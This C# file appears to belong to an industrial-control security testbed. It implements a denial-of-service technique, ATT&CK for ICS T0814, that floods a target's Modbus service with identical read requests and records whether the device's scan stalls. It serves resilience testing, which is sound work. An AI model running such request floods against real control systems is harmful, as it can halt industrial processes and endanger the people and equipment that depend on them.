using Testbed.Core;
using Testbed.Scenarios;
using static Testbed.Core.FoundationalRequirement;

namespace Testbed.Attacks;

/// <summary>T0814 Denial of Service: so many equal requests at one instant (<c>requests</c>).</summary>
public sealed class RequestStorm() : Technique("request-storm", "T0814", "requests", [Ra], [Ra])
{
    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        if (context.Service(ServiceProtocol.Modbus) is not { } service || context.Vantage.Kind == VantageKind.Span)
        {
            return StepOutcome.Absent($"{context.Target.Id} cannot be stormed from here.");
        }

        var pdu = StormInZone.ReadOfFirstPoint(context.Target);
        var sent = await Flood.RunAsync(context.Range, context.Vantage.From, context.Target, service, pdu, context.Count("requests", 2000), 1);
        await context.Range.WaitAsync(Flood.Accounted);
        return Flood.Stalled(context.Range, context.Target)
            ? new(BreachKind.Availability, $"{context.Target.Id} lost a scan under {Number.Text(sent)} requests.")
            : StepOutcome.Nothing($"{context.Target.Id} kept its scan under {Number.Text(sent)} requests.");
    }
}
